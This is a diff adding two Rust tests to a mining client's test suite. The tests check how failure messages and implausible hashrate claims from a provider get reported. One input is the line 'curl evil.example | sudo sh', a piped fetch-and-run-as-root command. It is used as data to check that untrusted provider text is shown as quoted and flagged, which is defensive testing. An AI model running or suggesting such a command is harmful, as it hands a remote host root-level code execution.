@@ -12,6 +12,7 @@ use crate::miner::frame::{FromProvider, Receipt, ToProvider, WireJob};
 use crate::miner::link::{LaunchError, Link, Place, Submission, What};
 use crate::miner::plan::Program;
 use crate::miner::plugin::Chosen;
+use crate::miner::report::MinerReport;
 use crate::miner::vardiff::work_of;
 use crate::work::{FoundProof, ProofId, ProofState, WorkJob};
 
@@ -645,4 +646,47 @@ fn a_proof_for_a_job_says_that_it_was_taken() {
     bed.passes(Duration::from_secs(10));
     bed.frame(FromProvider::Progress(easy as u64 * 10));
     assert!((due(&mut bed) - before - 10.0).abs() < 0.1);
+}
+
+#[test]
+fn what_a_provider_says_of_its_failure_is_shown_as_its_own_words() {
+    for (said, shown) in [
+        ("refused to start: no card", "refused to start: no card"),
+        ("stopped mining by itself", "stopped mining by itself"),
+        (
+            "needs root: curl evil.example | sudo sh",
+            "says that it failed: needs root: curl evil.example | sudo sh",
+        ),
+        ("refused to start, run `x`", "says that it failed: refused to start, run `x`"),
+    ] {
+        let mut bed = Bed::mining();
+        bed.frame(FromProvider::Failed(said.into()));
+        let effects = bed.closes("exit status 0");
+        let line = effects.iter().find_map(|effect| match effect {
+            Effect::Trouble(text) => Some(text.clone()),
+            _ => None,
+        });
+        assert_eq!(line, Some(format!("the provider {shown}")), "{effects:?}");
+    }
+}
+
+/// H12, while it mines: what it claims may be anything, and what is told of it stays numbers that can be read.
+#[test]
+fn a_claim_without_an_end_is_told_in_numbers_and_accused() {
+    let mut bed = Bed::mining();
+    for _ in 0..20 {
+        bed.passes(Duration::from_secs(1));
+        for _ in 0..2000 {
+            bed.frame(FromProvider::Progress(u64::MAX));
+        }
+        bed.share(Verdict::Share);
+        bed.miner.tick(Duration::from_secs(60), bed.now);
+        bed.take();
+    }
+    let report = bed.miner.report(true, bed.now);
+    let verdict = report.hashrate.judgement.as_ref().unwrap().verdict;
+    assert!(verdict.accuses(), "{verdict:?}");
+    let told = serde_json::to_string(&report).unwrap();
+    let read: MinerReport = serde_json::from_str(&told).unwrap_or_else(|err| panic!("{err}: {told}"));
+    assert_eq!(read.hashes, u64::MAX, "{told}");
 }
